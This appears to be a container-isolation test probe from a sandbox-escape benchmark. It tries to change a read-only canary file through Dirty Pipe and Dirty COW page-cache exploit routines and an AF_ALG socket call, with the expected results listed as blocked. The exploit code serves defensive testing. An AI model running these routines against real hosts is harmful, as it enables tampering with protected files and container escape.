# Changes a file that it may only read, through the page cache that all containers of an image share:
# by the kernel's crypto sockets (CVE-2026-31431), by a pipe's merge flag (CVE-2022-0847), by a
# private mapping (CVE-2016-5195), and plainly. The file is a harmless one.
# ---
# probe = "page-cache writes: AF_ALG, Dirty Pipe, Dirty COW"
# class = "SandboxEscapeBench kernel: Dirty Pipe, Dirty COW"
#
# [[case]]
# name = "write"
# observed.alg = "EPERM"
# observed.open = "EACCES"
# observed.pipe = "EPERM"
# observed.advise = "DONE"
# observed.mem = "DONE"
# observed.unchanged = true
# runsc.observed.mem = "EACCES"
#
# [[case]]
# name = "look"
# observed.unchanged = true
# ---
import hashlib
import mmap
import threading

CANARY = os.path.join(os.path.dirname(os.__file__), "this.py")


def digest():
    return hashlib.sha256(read_file(CANARY, 1 << 20)).hexdigest()


def dirty_pipe():
    reader, writer = os.pipe()
    # Filled and drained, every buffer of the pipe keeps the flag that lets later writes merge.
    size = os.write(writer, b"x" * 65536)
    os.read(reader, size)
    file = os.open(CANARY, os.O_RDONLY)
    os.splice(file, writer, 1, offset_src=0) if hasattr(os, "splice") else call(
        275, file, None, writer, None, 1, 0)
    os.write(writer, b"ESCAPED")


def mapped():
    file = os.open(CANARY, os.O_RDONLY)
    return mmap.mmap(file, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)


def dirty_cow():
    area = mapped()
    end = threading.Event()

    def forget():
        while not end.is_set():
            area.madvise(mmap.MADV_DONTNEED)

    other = threading.Thread(target=forget)
    other.start()
    where = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if CANARY in line)
    try:
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            for _ in range(2000):
                memory.seek(where)
                # A private copy is what a right kernel changes here.
                memory.write(b"ESCAPED")
    finally:
        end.set()
        other.join()


if CASE == "write":
    attempt("alg", call, 41, 38, 5, 0)
    attempt("open", os.open, CANARY, os.O_WRONLY)
    attempt("pipe", dirty_pipe)
    attempt("advise", lambda: mapped().madvise(mmap.MADV_DONTNEED))
    attempt("mem", dirty_cow)
observed["unchanged"] = digest() == INPUT["canary"]
tell()
